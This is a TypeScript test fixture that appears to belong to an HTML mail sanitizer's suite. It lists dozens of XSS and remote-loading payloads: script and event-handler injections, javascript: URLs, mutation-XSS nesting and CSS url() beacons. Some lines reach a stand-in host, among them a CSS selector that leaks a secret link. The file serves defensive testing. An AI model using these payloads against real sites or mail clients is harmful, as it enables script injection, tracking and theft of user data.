import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { FIXTURES } from "./fixtures-path.ts";

/** X is a host that must receive no request. */
const ATTACKS: string[] = [
  "<script>alert(1)</script><ScRiPt src=//X/a.js></ScRiPt><script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)><img/src/onerror=alert(1)><img src=`x`onerror=alert(1)>",
  "<svg onload=alert(1)><svg><script>alert(1)</script></svg><svg/onload=alert(1)//",
  "<body onload=alert(1) background=//X/b.png><p onclick=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe><img src=x onerror=alert(1)></iframe><iframe src=//X/i>",
  "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=//X/e><applet code=//X/a>",
  "<meta http-equiv=refresh content='0;url=//X/r'><meta http-equiv=refresh content='0;javascript:alert(1)'>",
  "<base href=//X/><img src=a.png><a href=b>b</a>",
  "<link rel=stylesheet href=//X/s.css><link rel=prefetch href=//X/p><link rel=dns-prefetch href=//X><link rel=icon href=//X/i>",
  "<style>@import url(//X/i.css);body{background:url(//X/b)}@font-face{font-family:f;src:url(//X/f)}</style><p style=font-family:f>t",
  "<style><!--</style><img src=//X/1 onerror=alert(1)>--></style>",
  "<p style='background:url(//X/1)'>1<p style='background:u\\72l(//X/2)'>2<p style=\"background:url('//X/3')\">3",
  "<p style='background-image:image-set(url(//X/1) 1x)'>1<p style='background-image:-webkit-image-set(\"//X/2\" 1x)'>2",
  "<p style='background:url(//X/a) red, linear-gradient(red,url(//X/b))'>x<p style='background:/**/url/**/(//X/c)'>",
  "<p style='list-style:url(//X/1);cursor:url(//X/2),auto;border-image:url(//X/3) 1;mask:url(//X/4);filter:url(//X/5#a)'>x",
  "<p style='content:url(//X/1);shape-outside:url(//X/2);clip-path:url(//X/3#a);offset-path:url(//X/4#a)'>x",
  '<p style="--a:url(//X/1);background:var(--a)">x<p style=\'background:src("//X/2")\'>',
  "<p style='color:red;}*{background:url(//X/1)'>x<p style='font-family:\"</style><img src=//X/2>\"'>",
  '<p style="x:\'&quot;;background:url(//X/1)">x<p style=\'font-family:"a;background:url(//X/2);"\'>',
  "<p style='background:&#117;rl(//X/1)'>x<p style='background:\nurl(\n//X/2\n)'>",
  "<table background=//X/1><tr background=//X/2><td background=//X/3>x</table><body background=//X/4>",
  "<img src=//X/1><img srcset='//X/2 1x, //X/3 2x'><img lowsrc=//X/4 dynsrc=//X/5><img src=/\\X/6><image src=//X/7>",
  "<picture><source srcset=//X/1><img src=//X/2 srcset=//X/3></picture>",
  "<video src=//X/1 poster=//X/2 autoplay><source src=//X/3><track src=//X/4></video><audio src=//X/5 autoplay>",
  "<input type=image src=//X/1><input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
  "<form action=//X/1><button formaction=javascript:alert(1) autofocus>x</button><isindex action=//X/2></form>",
  "<svg><image href=//X/1 xlink:href=//X/2></image><use href=//X/3#a></use><feImage href=//X/4></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><style>@import '//X/1';</style><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
  "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=//X>x</maction></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea></textarea/><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed><noframes><img src=x onerror=alert(1)></noframes>",
  "<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><img src=//X/1></template>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?><!x <img src=x onerror=alert(1)>",
  '<p title="<img src=x onerror=alert(1)>">x</p><p title=\'"><img src=x onerror=alert(1)>\'>y',
  "<a href=javascript:alert(1)>1</a><a href='&nbsp;javascript:alert(1)'>2</a><a href=' &#14; javascript:alert(1)'>3</a>",
  "<a href='java&Tab;script:alert(1)'>1</a><a href='data:text/html,<script>alert(1)</script>'>2</a><a ping=//X/1 href=http://a.test>3</a>",
  "<a href='http://a.test' style='display:block' onfocus=alert(1) autofocus tabindex=1 id=x>1</a>",
  "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee><dialog open onclose=alert(1)>",
  "<p popover id=p onbeforetoggle=alert(1)>x</p><p style='animation:a 1s' onanimationstart=alert(1)>x<p ontransitionend=alert(1)>",
  "<p contenteditable autofocus onfocus=alert(1) tabindex=0>x<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
  "<frameset onload=alert(1)><frame src=//X/1></frameset>",
  "<portal src=//X/1></portal><fencedframe src=//X/2></fencedframe><bgsound src=//X/3><layer src=//X/4>",
  "<object data=//X/1 type=image/png><param name=src value=//X/2></object><embed src=javascript:alert(1)>",
  '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="//X/1"/></svg>\'>',
  "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='><img src='blob:http://X/1'>",
  "<img src=cid:svg><img src=cid:html><img src=cid:broken onerror=alert(1)>",
  "<p/onclick=alert(1)/style=background:url(//X/1)>x<p\u000bonclick=alert(1)>x<p\0 onclick=alert(1)>",
  "<<script>alert(1)//<</script><scr<script>ipt>alert(1)</scr</script>ipt>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><html:img src=//X/1 onerror=alert(1)>",
  '<link rel=import href=//X/1><script type=speculationrules>{"prefetch":[{"urls":["//X/2"]}]}</script><script type=importmap>{}</script>',
  "<table><td><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<img alt='--><img src=x onerror=alert(1)>' src=//X/1><img alt='&lt;script&gt;alert(1)&lt;/script&gt;' src=//X/2>",
  "<font face='\"><img src=x onerror=alert(1)>' color='url(//X/1)'>x<hr color='expression(alert(1))'>",
  "<body text='red;background:url(//X/1)' bgcolor='url(//X/2)' style='background:url(//X/3)'>x",
  "<p __proto__=x constructor=y toString=z hasOwnProperty=1>x<__proto__>y</__proto__><constructor>z</constructor>",
  "<span class='blocked' role=img style='position:fixed;inset:0;width:9999px'>x",
  "<style>*{background:url(//X/s1);list-style:url(//X/n);cursor:url(//X/n),auto;content:url(//X/n)}</style><p>x<li>y",
  "<style>p{background:u\\72l(//X/n);background:\\75rl('//X/n');background:url\\28//X/n)}</style><p>x",
  "<style>p{background:image-set(url(//X/n) 1x);background:src('//X/n');background:-webkit-image-set('//X/n' 1x)}</style><p>x",
  "<style>p{--a:url(//X/n);background:var(--a)}@property --b{syntax:'<url>';initial-value:url(//X/n);inherits:true}</style><p>x",
  "<style>@import '//X/n';@import url(//X/n) screen;@namespace url(//X/n);@font-face{font-family:f;src:url(//X/n)}p{font-family:f}</style><p>x",
  "<style>p{font-family:'</style><img src=//X/2 onerror=alert(1)>'}</style><p>x",
  "<style>p{color:red}</style/><img src=x onerror=alert(1)></style><style>p{x:'</style ><script>alert(1)</script>'}</style>",
  "<style><style>p{background:url(//X/s2)}</style></style><p>x<style",
  '<style>p{background:url("//X/s3");}p::after{content:url(//X/n)}p:hover{background:url(//X/n)}</style><p>x',
  "<svg><style>p{background:url(//X/n)}</style></svg><math><style>p{background:url(//X/n)}</style></math><p>x",
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'></style><p>x",
  "<![CDATA[<style>p{background:url(//X/n)}</style>]]><!--<style>p{background:url(//X/n)}</style>--><p>x",
  "<noscript><style>p{background:url(//X/n)}</style></noscript><template><style>p{background:url(//X/n)}</style></template><p>x",
  "<xmp><style>p{background:url(//X/n)}</style></xmp><textarea><style>p{background:url(//X/n)}</style></textarea><p>x",
  "<style>@media screen{p{background:url(//X/s4)}}@media print{p{background:url(//X/n)}}</style><p>x",
  "<style>p{background:url(//X/s5);behavior:url(//X/n);-moz-binding:url(//X/n);filter:url(//X/n#a);mask:url(//X/n)}</style><p>x",
  '<style>a[href^="http://a.test/secret"]{background:url(//X/n)}[title*=a]{background:url(//X/n)}</style><a href=http://a.test/secret title=a>x</a>',
  "<style>p{background:url(javascript:alert(1));background-image:url('data:image/svg+xml,<svg onload=alert(1)>')}</style><p>x",
  "<style>p{width:expression(alert(1));color:red;}</style><style media='screen'>@import'//X/n'</style><p style='}*{background:url(//X/n)'>x",
  "<style>html{background:url(//X/s6)}body{background:url(//X/s7);position:fixed;z-index:9}</style>x",
  "<style>p{background:url(//X/s8) red,url(javascript:alert(1)),url('//X/s9')</style><p>x",
  "<style>p{font:caption;color:red}/*</style><img src=x onerror=alert(1)>*/</style><p>x",
];

/** The host that the hostile mails try to reach. */
export const HOSTILE_HOST = "x.test";

/** HTML of mails that try to run or to load something, each in another way. */
export const HOSTILE_MAILS: readonly string[] = ATTACKS.map((mail) => mail.replaceAll("X", HOSTILE_HOST));

/** Returns the attacks of another sanitizer's suite; none where that suite is missing, which is printed. */
export function hostileCases(): string[] {
  const path = join(FIXTURES, "html/dompurify-cases.json");
  if (existsSync(path))
    return (JSON.parse(readFileSync(path, "utf8")) as { payload: string }[]).map((one) => one.payload);
  console.info("skipped: the cases of another sanitizer, whose fixture is missing");
  return [];
}
